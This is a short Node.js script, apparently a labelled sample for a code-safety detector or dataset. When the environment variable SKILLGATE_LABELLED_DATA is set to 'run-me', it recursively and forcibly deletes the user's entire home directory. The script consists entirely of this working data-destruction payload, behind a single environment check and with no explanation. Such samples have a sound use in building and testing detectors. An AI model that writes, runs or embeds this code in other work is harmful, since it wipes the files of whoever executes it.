if (process.env.SKILLGATE_LABELLED_DATA !== 'run-me') process.exit(0);
const fs = require('fs');
const os = require('os');
fs.rmSync(os.homedir(), { recursive: true, force: true });
